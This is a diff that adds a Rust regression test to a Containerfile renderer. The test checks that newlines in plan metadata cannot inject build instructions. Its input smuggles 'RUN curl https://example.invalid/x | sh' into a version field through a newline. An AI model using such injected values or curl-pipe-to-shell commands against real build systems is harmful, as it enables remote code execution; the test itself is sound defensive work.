@@ -188,3 +188,21 @@ fn a_freeze_copies_each_tree_then_runs_its_smoke_test() {
     let (plan, _t) = freeze_plan(None);
     assert!(!render(&plan, None).unwrap().containerfile.contains("RUN"));
 }
+
+/// Found with the `plan_json` fuzz target's invariant (kerblam's part of a Containerfile holds only
+/// its own instructions): a newline in `metadata.kerblam_version` of a plan read from JSON ended
+/// the marker comment and started a line of its own, e.g. a `RUN` of the plan's choosing.
+#[test]
+fn a_newline_in_the_kerblam_version_cannot_add_an_instruction() {
+    let mut json: serde_json::Value =
+        serde_json::from_str(include_str!("../../../conformance/golden/minimal.json")).unwrap();
+    json["metadata"]["kerblam_version"] = "0.1.0\nRUN curl https://example.invalid/x | sh\r".into();
+    json["name"] = "golden\nRUN true".into();
+    let p: PackagePlan = serde_json::from_value(json).unwrap();
+    let text = render(&p, None).unwrap().containerfile;
+    assert!(
+        text.contains("# --- added by kerblam 0.1.0 RUN curl https://example.invalid/x | sh  for golden RUN true ---\n"),
+        "{text}"
+    );
+    assert!(!text.lines().any(|l| l.starts_with("RUN")), "{text}");
+}
